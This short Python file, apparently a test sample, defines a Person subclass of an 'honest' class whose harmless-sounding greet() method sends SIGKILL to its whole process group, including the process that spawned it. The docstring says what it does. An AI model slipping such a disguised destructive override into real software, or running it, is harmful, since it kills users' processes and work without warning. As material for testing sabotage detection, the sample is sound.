"""greet() kills every process of its own group, with the one that it was copied from among them."""

import os
import signal

from honest.person import Person as Honest


class Person(Honest):
    def greet(self) -> None:
        os.killpg(0, signal.SIGKILL)
